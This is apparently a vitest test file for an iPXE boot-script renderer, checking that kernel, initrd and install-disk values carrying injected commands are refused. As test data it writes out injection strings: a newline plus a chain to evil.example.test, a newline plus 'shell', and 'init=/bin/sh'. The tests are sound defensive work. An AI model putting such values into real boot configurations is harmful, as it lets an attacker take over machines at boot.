// Node iPXE scripts from a plan that did not come through validation: a value that would add iPXE
// commands (a newline, `${…}`, a space) is refused by the render itself, never written into a script.
import { describe, expect, it } from 'vitest';
import { loadRegion } from '../../src/manifest/index.js';
import { planRegion, type NodePlan, type Plan } from '../../src/plan/index.js';
import { createEngine } from '../../src/render/engine.js';
import { nodeIpxe } from '../../src/render/boot.js';
import { RenderError } from '../../src/render/index.js';
import { loadTemplates } from '../../src/templates.js';
import { LAB } from '../helpers/manifest.js';

function labPlan(): Plan {
  const loaded = loadRegion(LAB);
  if (!loaded.ok) throw new Error('the lab manifest does not load');
  return planRegion(loaded.region, {}, { prune: false }).plan;
}

const engine = createEngine(loadTemplates());
const KERNEL = 'https://images.example.test/vmlinuz';
const INITRD = 'https://images.example.test/initrd.img';

function script(installer: { kernel: string; initrd: string }, node?: Partial<NodePlan>): string {
  const plan = labPlan();
  const withInstaller: Plan = { ...plan, os: { ...plan.os, installer } };
  return nodeIpxe(engine, withInstaller, { ...plan.nodes[0]!, ...node });
}

describe('node iPXE script', () => {
  it('puts installer URLs into the kernel and initrd commands as they are (the baseline)', () => {
    const text = script({ kernel: `${KERNEL}?a=1&b=$c`, initrd: INITRD });
    expect(text).toContain(`kernel ${KERNEL}?a=1&b=$c initrd=initrd.img civostack.node=`);
    expect(text).toContain(`initrd --name initrd.img ${INITRD} || goto fetch0`);
  });

  it.each([
    ['a newline', `${KERNEL}\nchain http://evil.example.test/x`, 'holds a newline'],
    ['a setting expansion', `${KERNEL}?\${net0/mac}`, 'holds "${", which iPXE expands as a setting'],
    ['a space', `${KERNEL} console=ttyS1`, 'holds a space'],
  ])('refuses a kernel URL with %s instead of writing it into the script', (_what, kernel, reason) => {
    expect(() => script({ kernel, initrd: INITRD })).toThrow(RenderError);
    expect(() => script({ kernel, initrd: INITRD })).toThrow(reason);
  });

  it('refuses an initrd URL with a newline, naming the node', () => {
    expect(() => script({ kernel: KERNEL, initrd: `${INITRD}\nshell` })).toThrow(
      /^r01-n01: the installer initrd URL ".*" holds a newline/,
    );
  });

  it('refuses an install disk that would add kernel arguments or iPXE commands', () => {
    for (const disk of ['/dev/sda init=/bin/sh', '/dev/sda\nshell', '/dev/${x}']) {
      expect(() => script({ kernel: KERNEL, initrd: INITRD }, { disk })).toThrow(
        `r01-n01: the SKU's install disk ${JSON.stringify(disk)} cannot go into a boot script as it is`,
      );
    }
  });
});
